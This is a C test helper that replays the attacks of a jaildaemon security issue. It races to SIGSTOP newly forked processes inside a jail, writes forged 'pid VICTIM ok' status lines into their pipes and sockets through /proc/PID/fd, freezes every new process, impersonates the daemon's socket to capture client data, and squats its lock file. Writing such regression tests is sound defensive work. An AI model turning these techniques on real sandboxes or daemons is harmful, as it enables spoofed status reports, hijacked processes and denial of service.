/*
 * hostile_daemon: the attacks of jaildaemon security issue #8, played by one small
 * static program. Built by tests/daemon_security.rs with
 * `cc -static -O2 -o OUT tests/helpers/hostile_daemon.c`.
 *
 * Modes (every report goes to stdout, one line each, flushed at once):
 *
 *   forge VICTIM HOLD_MS FIRE_SUBSTR FIRE_ROUNDS FIRE_INTERVAL_MS MAX_SECS STOPFILE
 *       Inside a jail, as its root. Spins (one thread per CPU) on kill(pid, SIGSTOP)
 *       for the pids that the jail's pid namespace hands out next (read from
 *       /proc/sys/kernel/ns_last_pid), so a freshly forked probe is stopped in the
 *       middle of its setup. For each
 *       process caught it tries to open /proc/PID/fd/0..9 and, where that works on a
 *       pipe or a socket, writes the forged status lines "pid VICTIM\nok\n" into it
 *       (the attack of defect 1). The process is resumed after HOLD_MS. Meanwhile,
 *       every FIRE_INTERVAL_MS it sends SIGHUP to the processes whose command line
 *       contains FIRE_SUBSTR (FIRE_ROUNDS rounds that hit something), so that a `-R`
 *       probe respawns and every respawn is attacked too.
 *
 *   stopall MAX_SECS STOPFILE
 *       Inside a jail: SIGSTOPs every process created after it started and never
 *       resumes it (defect 4).
 *
 *   fakeserver SOCKET MAX_SECS STOPFILE
 *       On the host, as a non-root user: listens on SOCKET as a fake jaildaemon and
 *       reports, per connection, how many bytes the client sent (defect 7).
 *
 *   holdlock PATH MAX_SECS STOPFILE
 *       On the host, as a non-root user: creates PATH, writes a pid into it and holds
 *       an exclusive flock(2) on it (defect 7).
 *
 * Every mode ends when STOPFILE exists or after MAX_SECS, and prints DONE.
 *
 * SAFETY OF THE HOST: in the jail, kill() only reaches processes of the jail's pid
 * namespace, and only pids handed out after this program started are touched (never
 * 0, -1 or 1). A
 * descriptor reached through /proc/PID/fd is opened without O_CREAT or O_TRUNC and
 * written only when it is a pipe or a socket (never a file); if a defence is missing,
 * the forged bytes reach the daemon, whose victim is a `sleep` the test started.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static const char *stopfile;
static double deadline;

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static const char *ename(int e)
{
	const char *n = strerrorname_np(e);
	static char buf[32];
	if (n)
		return n;
	snprintf(buf, sizeof buf, "E%d", e);
	return buf;
}

static int should_stop(void)
{
	return now() > deadline || access(stopfile, F_OK) == 0;
}

static void usage(void)
{
	fprintf(stderr, "usage: hostile_daemon forge VICTIM HOLD_MS FIRE_SUBSTR FIRE_ROUNDS "
			"FIRE_INTERVAL_MS MAX_SECS STOPFILE\n"
			"       hostile_daemon stopall MAX_SECS STOPFILE\n"
			"       hostile_daemon fakeserver SOCKET MAX_SECS STOPFILE\n"
			"       hostile_daemon holdlock PATH MAX_SECS STOPFILE\n");
	exit(2);
}

/* ---------------------------------------------------------------------------- */
/* In the jail */

static int last_fd = -1;

/* The last pid the jail's pid namespace handed out; -1 when unreadable. The file is
 * opened once, before any thread exists. */
static long read_last_pid(void)
{
	char buf[32];
	ssize_t n;
	if (last_fd < 0) {
		last_fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
		if (last_fd < 0) {
			printf("ERROR open /proc/sys/kernel/ns_last_pid %s\n", ename(errno));
			exit(1);
		}
	}
	n = pread(last_fd, buf, sizeof buf - 1, 0);
	if (n <= 0)
		return -1;
	buf[n] = 0;
	return strtol(buf, NULL, 10);
}

/* The command line of PID with NULs as spaces (empty when unreadable). */
static void cmdline_of(long pid, char *out, size_t len)
{
	char path[64];
	int fd;
	ssize_t n;
	out[0] = 0;
	snprintf(path, sizeof path, "/proc/%ld/cmdline", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	n = read(fd, out, len - 1);
	close(fd);
	if (n <= 0) {
		out[0] = 0;
		return;
	}
	out[n] = 0;
	for (ssize_t i = 0; i < n; i++)
		if (out[i] == 0 || out[i] == '\n')
			out[i] = ' ';
	while (n > 0 && out[n - 1] == ' ')
		out[--n] = 0;
}

#define MAX_HELD 4096
/* The processes caught, under held_lock: held until held_until (forge mode) or for
 * good (stopall). */
static pthread_mutex_t held_lock = PTHREAD_MUTEX_INITIALIZER;
static long held_pid[MAX_HELD];
static double held_until[MAX_HELD];
static int held_active[MAX_HELD];
static int n_held;
static long n_stopped, n_opened, n_wrote, n_denied;

/* Shared by the spinners: the lowest pid not yet caught, which pids one of them
 * claimed, the mode, and when to stop. */
static atomic_long next_pid;
static atomic_uchar claimed[1 << 16];
static atomic_int stop_flag;
static atomic_int go_flag;
static int mode_forge;
static long victim_pid;
static double hold_secs;

static int is_held(long pid)
{
	int r = 0;
	pthread_mutex_lock(&held_lock);
	for (int i = 0; i < n_held; i++)
		if (held_pid[i] == pid && held_active[i])
			r = 1;
	pthread_mutex_unlock(&held_lock);
	return r;
}

/* The attack of defect 1 on a process we just stopped. */
static void forge(long pid, long victim)
{
	char path[64], line[64];
	DIR *d;
	int len = snprintf(line, sizeof line, "pid %ld\nok\n", victim);

	snprintf(path, sizeof path, "/proc/%ld/fd", pid);
	d = opendir(path);
	if (d) {
		int n = 0;
		struct dirent *e;
		while ((e = readdir(d)))
			if (e->d_name[0] != '.')
				n++;
		closedir(d);
		printf("LISTFD %ld OK %d\n", pid, n);
	} else {
		printf("LISTFD %ld DENIED %s\n", pid, ename(errno));
	}
	for (int fd = 0; fd < 10; fd++) {
		struct stat st;
		int f;
		snprintf(path, sizeof path, "/proc/%ld/fd/%d", pid, fd);
		f = open(path, O_WRONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
		if (f < 0) {
			if (errno != ENOENT) {
				__atomic_fetch_add(&n_denied, 1, __ATOMIC_RELAXED);
				printf("OPEN %ld %d DENIED %s\n", pid, fd, ename(errno));
			}
			continue;
		}
		__atomic_fetch_add(&n_opened, 1, __ATOMIC_RELAXED);
		if (fstat(f, &st) == 0 && (S_ISFIFO(st.st_mode) || S_ISSOCK(st.st_mode))) {
			ssize_t w = write(f, line, len);
			printf("OPEN %ld %d OK %s\n", pid, fd, S_ISFIFO(st.st_mode) ? "pipe" : "socket");
			if (w > 0) {
				__atomic_fetch_add(&n_wrote, 1, __ATOMIC_RELAXED);
				printf("WROTE %ld %d %zd\n", pid, fd, w);
			}
		} else {
			printf("OPEN %ld %d OK other\n", pid, fd);
		}
		close(f);
	}
}

/* Stop PID if it exists and no spinner has it yet; the one that claims it attacks it. */
static void try_catch(long pid)
{
	unsigned char no = 0;
	char cmd[256];
	long n;
	/* never 0 or -1 (a process group, everything), never init */
	if (pid <= 1 || pid >= 1 << 22)
		return;
	if (atomic_load(&claimed[pid & 0xffff]) || kill((pid_t)pid, SIGSTOP) != 0)
		return;
	if (!atomic_compare_exchange_strong(&claimed[pid & 0xffff], &no, 1))
		return;
	n = atomic_load(&next_pid);
	while (n <= pid && !atomic_compare_exchange_weak(&next_pid, &n, pid + 1))
		;
	cmdline_of(pid, cmd, sizeof cmd);
	__atomic_fetch_add(&n_stopped, 1, __ATOMIC_RELAXED);
	printf("STOPPED %ld %s\n", pid, cmd);
	if (mode_forge)
		forge(pid, victim_pid);
	pthread_mutex_lock(&held_lock);
	if (n_held < MAX_HELD) {
		held_pid[n_held] = pid;
		held_until[n_held] = mode_forge ? now() + hold_secs : 1e300;
		held_active[n_held] = 1;
		n_held++;
	}
	pthread_mutex_unlock(&held_lock);
}

/* One round of the spin: the next few pids at once, and now and then every pid handed
 * out since (ns_last_pid), in case one was missed. */
static void spin_once(unsigned long iter)
{
	long n = atomic_load(&next_pid);
	/* Tight: a pid is stopped within a few system calls of its creation. */
	for (long p = n; p < n + 4; p++)
		try_catch(p);
	if ((iter & 255) == 0) {
		long last = read_last_pid();
		n = atomic_load(&next_pid);
		for (long p = n; p <= last; p++)
			try_catch(p);
		while (n <= last && !atomic_compare_exchange_weak(&next_pid, &n, last + 1))
			;
	}
}

static void *spinner(void *arg)
{
	unsigned long iter = 0;
	(void)arg;
	while (!atomic_load(&go_flag))
		usleep(1000);
	while (!atomic_load(&stop_flag))
		spin_once(++iter);
	return NULL;
}

static void resume_expired(int all)
{
	double t = now();
	pthread_mutex_lock(&held_lock);
	for (int i = 0; i < n_held; i++) {
		if (held_active[i] && held_until[i] < 1e299 && (all || held_until[i] <= t)) {
			kill((pid_t)held_pid[i], SIGCONT);
			printf("RESUMED %ld\n", held_pid[i]);
			held_active[i] = 0;
		}
	}
	pthread_mutex_unlock(&held_lock);
}

/* SIGHUP every process (born after BASE) whose command line contains SUBSTR and that
 * we do not hold stopped. Returns how many were signalled. */
static int fire(long base, const char *substr)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	int n = 0;
	if (!d)
		return 0;
	while ((e = readdir(d))) {
		char cmd[256];
		char *end;
		long pid = strtol(e->d_name, &end, 10);
		if (*end || pid <= base || pid == getpid() || is_held(pid))
			continue;
		cmdline_of(pid, cmd, sizeof cmd);
		if (!strstr(cmd, substr))
			continue;
		if (kill((pid_t)pid, SIGHUP) == 0) {
			printf("FIRED %ld %s\n", pid, cmd);
			n++;
		}
	}
	closedir(d);
	return n;
}

/* One spinner per CPU (this thread is one of them), so that one is running on another
 * CPU when the new process starts on its own. */
static int jail_mode(const char *substr, int rounds, double interval)
{
	long ncpu = sysconf(_SC_NPROCESSORS_ONLN);
	int nthreads = ncpu < 2 ? 1 : ncpu > 8 ? 7 : (int)ncpu - 1;
	pthread_t th[8];
	long base;
	unsigned long iter = 0;
	double next_fire = now() + interval;
	int rounds_done = 0;

	if (read_last_pid() < 0) {
		printf("ERROR cannot read ns_last_pid\n");
		return 1;
	}
	/* our threads take pids of the jail too: only what comes after them is caught */
	for (int i = 0; i < nthreads; i++)
		if (pthread_create(&th[i], NULL, spinner, NULL) != 0) {
			printf("ERROR pthread_create\n");
			return 1;
		}
	usleep(10000);
	base = read_last_pid();
	if (base < 0) {
		printf("ERROR cannot read ns_last_pid\n");
		return 1;
	}
	atomic_store(&next_pid, base + 1);
	atomic_store(&go_flag, 1);
	printf("READY %d base=%ld spinners=%d\n", getpid(), base, nthreads + 1);
	for (;;) {
		spin_once(++iter);
		if ((iter & 255) == 0) {
			if (mode_forge) {
				resume_expired(0);
				if (rounds_done < rounds && now() >= next_fire) {
					if (fire(base, substr) > 0) {
						rounds_done++;
						printf("FIRE_ROUND %d\n", rounds_done);
						if (rounds_done == rounds)
							printf("FIRE_DONE\n");
					}
					next_fire = now() + interval;
				}
			}
			if ((iter & 4095) == 0 && should_stop())
				break;
		}
	}
	atomic_store(&stop_flag, 1);
	for (int i = 0; i < nthreads; i++)
		pthread_join(th[i], NULL);
	if (mode_forge)
		resume_expired(1);
	printf("DONE stopped=%ld opened=%ld wrote=%ld denied=%ld\n", n_stopped, n_opened, n_wrote,
	       n_denied);
	return 0;
}

/* ---------------------------------------------------------------------------- */
/* On the host, as a non-root user */

static int fakeserver(const char *sock)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	int l = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	int k = 0;
	if (l < 0 || strlen(sock) >= sizeof a.sun_path) {
		printf("ERROR socket %s\n", ename(errno));
		return 1;
	}
	strcpy(a.sun_path, sock);
	unlink(sock);
	if (bind(l, (struct sockaddr *)&a, sizeof a) < 0 || listen(l, 16) < 0) {
		printf("ERROR bind/listen %s %s\n", sock, ename(errno));
		return 1;
	}
	printf("LISTENING %s uid=%d\n", sock, getuid());
	while (!should_stop()) {
		struct pollfd p = { .fd = l, .events = POLLIN };
		int c;
		long total = 0;
		char buf[4096];
		char shown[256] = "";
		double until;
		if (poll(&p, 1, 100) <= 0)
			continue;
		c = accept4(l, NULL, NULL, SOCK_CLOEXEC);
		if (c < 0)
			continue;
		k++;
		printf("ACCEPTED %d\n", k);
		until = now() + 3;
		while (now() < until) {
			struct pollfd q = { .fd = c, .events = POLLIN };
			ssize_t n;
			if (poll(&q, 1, 100) <= 0)
				continue;
			n = read(c, buf, sizeof buf);
			if (n <= 0)
				break;
			if (total < (long)sizeof shown - 1) {
				size_t room = sizeof shown - 1 - total;
				size_t m = (size_t)n < room ? (size_t)n : room;
				for (size_t i = 0; i < m; i++)
					shown[total + i] = (buf[i] >= 32 && buf[i] < 127) ? buf[i] : '.';
				shown[total + m] = 0;
			}
			total += n;
		}
		printf("BYTES %d %ld\n", k, total);
		if (total > 0)
			printf("DATA %d %s\n", k, shown);
		close(c);
	}
	unlink(sock);
	printf("DONE accepted=%d\n", k);
	return 0;
}

static int holdlock(const char *path)
{
	int fd = open(path, O_RDWR | O_CREAT | O_NOFOLLOW | O_CLOEXEC, 0644);
	if (fd < 0) {
		printf("ERROR open %s %s\n", path, ename(errno));
		return 1;
	}
	if (write(fd, "4242\n", 5) != 5 || flock(fd, LOCK_EX | LOCK_NB) < 0) {
		printf("ERROR write/flock %s %s\n", path, ename(errno));
		return 1;
	}
	printf("LOCKED %s uid=%d\n", path, getuid());
	while (!should_stop())
		usleep(50000);
	printf("DONE\n");
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 2)
		usage();
	if (!strcmp(argv[1], "forge") && argc == 9) {
		deadline = now() + atof(argv[7]);
		stopfile = argv[8];
		mode_forge = 1;
		victim_pid = atol(argv[2]);
		hold_secs = atof(argv[3]) / 1000.0;
		return jail_mode(argv[4], atoi(argv[5]), atof(argv[6]) / 1000.0);
	}
	if (!strcmp(argv[1], "stopall") && argc == 4) {
		deadline = now() + atof(argv[2]);
		stopfile = argv[3];
		return jail_mode("", 0, 1e9);
	}
	if (!strcmp(argv[1], "fakeserver") && argc == 5) {
		deadline = now() + atof(argv[3]);
		stopfile = argv[4];
		return fakeserver(argv[2]);
	}
	if (!strcmp(argv[1], "holdlock") && argc == 5) {
		deadline = now() + atof(argv[3]);
		stopfile = argv[4];
		return holdlock(argv[2]);
	}
	usage();
	return 2;
}
